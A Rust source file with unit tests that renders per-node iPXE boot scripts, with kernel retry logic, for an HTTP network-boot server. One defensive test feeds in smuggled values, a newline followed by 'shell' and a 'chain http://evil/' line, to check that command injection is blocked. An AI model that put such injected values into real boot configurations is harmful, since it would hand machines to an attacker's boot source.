//! iPXE scripts rendered from a node's [`crate::BootAction`], served by the HTTP boot server at
//! `/ipxe/{mac}`, and the generic `/boot.ipxe` that chains to the per-node script.
//!
//! Kernel and initrd paths relative to the HTTP root are made absolute against the server's
//! base URL, because iPXE resolves relative URIs against the *script's* URL, which would put
//! them under `/ipxe/`. The initrd is loaded under a fixed name and named on the kernel command
//! line (`initrd=…`): UEFI's Linux EFI stub needs that to find it, BIOS kernels ignore it.
//! Line breaks in configured values are flattened so a value can never add script commands.
//!
//! A kernel script retries its fetches: when the kernel or initrd download fails (the seed's
//! leader died mid-transfer and the floating address moved, a cable was re-plugged), iPXE frees
//! what it loaded, waits [`RETRY_SECS`] and fetches both again from the same address — where the
//! next leader answers. The script itself is not asked for again: its agent token is handed out
//! once per boot. A node that never gets through is power-cycled by the seed's boot watchdog.

use crate::{BootAction, MacAddr};

/// The name the initrd is registered under in iPXE (`initrd --name`).
const INITRD_NAME: &str = "initrd.img";

/// Seconds iPXE waits before fetching a node's kernel and initrd again after a failure.
pub const RETRY_SECS: u32 = 5;

/// The script for a node: its action, or `exit` for an unknown node (`None`).
pub fn render(action: Option<&BootAction>, http_base: &str) -> String {
    match action {
        None => "#!ipxe\necho seed: unknown node, leaving iPXE\nexit\n".to_string(),
        Some(BootAction::Exit) => "#!ipxe\nexit\n".to_string(),
        Some(BootAction::LocalDisk) => {
            "#!ipxe\nsanboot --no-describe --drive 0x80 || exit\n".to_string()
        }
        Some(BootAction::Kernel {
            kernel,
            initrd,
            cmdline,
        }) => {
            let kernel = absolute(http_base, kernel);
            let initrd = absolute(http_base, initrd);
            let cmdline = one_line(cmdline);
            let cmdline = cmdline.trim();
            let sep = if cmdline.is_empty() { "" } else { " " };
            format!(
                "#!ipxe\n:fetch\n\
                 kernel {kernel} initrd={INITRD_NAME}{sep}{cmdline} || goto retry\n\
                 initrd --name {INITRD_NAME} {initrd} || goto retry\n\
                 boot || goto retry\n\
                 :retry\n\
                 echo seed: fetching the boot files failed, again in {RETRY_SECS} s\n\
                 imgfree\nsleep {RETRY_SECS}\ngoto fetch\n"
            )
        }
    }
}

/// `/boot.ipxe`: for clients whose own DHCP points at us; chains to the per-node script.
pub fn chain_script(http_base: &str) -> String {
    format!(
        "#!ipxe\nchain {}/ipxe/${{net0/mac:hexhyp}} || exit\n",
        http_base.trim_end_matches('/')
    )
}

/// The URL path of a node's script (`/ipxe/52-54-00-00-00-01`).
pub fn script_path(mac: MacAddr) -> String {
    format!("/ipxe/{}", mac.hyphenated())
}

/// `path` as an absolute URL: kept if it already has a scheme, else joined to `base`.
fn absolute(base: &str, path: &str) -> String {
    let path = one_line(path);
    let path = path.trim();
    if path.contains("://") {
        return path.to_string();
    }
    format!(
        "{}/{}",
        base.trim_end_matches('/'),
        path.trim_start_matches('/')
    )
}

fn one_line(s: &str) -> String {
    s.replace(['\n', '\r'], " ")
}

#[cfg(test)]
mod tests {
    use super::*;

    const BASE: &str = "http://10.200.1.1:8080";

    #[test]
    fn kernel_urls_are_absolute() {
        let a = BootAction::Kernel {
            kernel: "boot/vmlinuz".into(),
            initrd: "/boot/initrd.img".into(),
            cmdline: "console=ttyS0 quiet".into(),
        };
        assert_eq!(
            render(Some(&a), BASE),
            "#!ipxe\n:fetch\n\
             kernel http://10.200.1.1:8080/boot/vmlinuz initrd=initrd.img console=ttyS0 quiet \
             || goto retry\n\
             initrd --name initrd.img http://10.200.1.1:8080/boot/initrd.img || goto retry\n\
             boot || goto retry\n\
             :retry\n\
             echo seed: fetching the boot files failed, again in 5 s\n\
             imgfree\nsleep 5\ngoto fetch\n"
        );
        let b = BootAction::Kernel {
            kernel: "http://mirror/vmlinuz".into(),
            initrd: "https://mirror/initrd".into(),
            cmdline: "".into(),
        };
        let s = render(Some(&b), "http://x:1/");
        assert!(
            s.contains("\nkernel http://mirror/vmlinuz initrd=initrd.img || goto retry\n"),
            "{s}"
        );
        assert!(
            s.contains("\ninitrd --name initrd.img https://mirror/initrd || goto retry\n"),
            "{s}"
        );
    }

    #[test]
    fn other_actions_and_unknown_nodes() {
        assert_eq!(
            render(Some(&BootAction::LocalDisk), BASE),
            "#!ipxe\nsanboot --no-describe --drive 0x80 || exit\n"
        );
        assert_eq!(render(Some(&BootAction::Exit), BASE), "#!ipxe\nexit\n");
        let unknown = render(None, BASE);
        assert!(unknown.starts_with("#!ipxe\n") && unknown.ends_with("\nexit\n"));
        assert_eq!(
            chain_script(BASE),
            "#!ipxe\nchain http://10.200.1.1:8080/ipxe/${net0/mac:hexhyp} || exit\n"
        );
        let mac: MacAddr = "52:54:00:00:00:01".parse().unwrap();
        assert_eq!(script_path(mac), "/ipxe/52-54-00-00-00-01");
    }

    #[test]
    fn values_cannot_inject_commands() {
        let a = BootAction::Kernel {
            kernel: "vmlinuz\nshell".into(),
            initrd: "initrd".into(),
            cmdline: "a\nchain http://evil/".into(),
        };
        let s = render(Some(&a), BASE);
        assert_eq!(s.lines().count(), 10, "{s}");
        assert!(!s.lines().any(|l| l.starts_with("chain") || l == "shell"));
    }
}
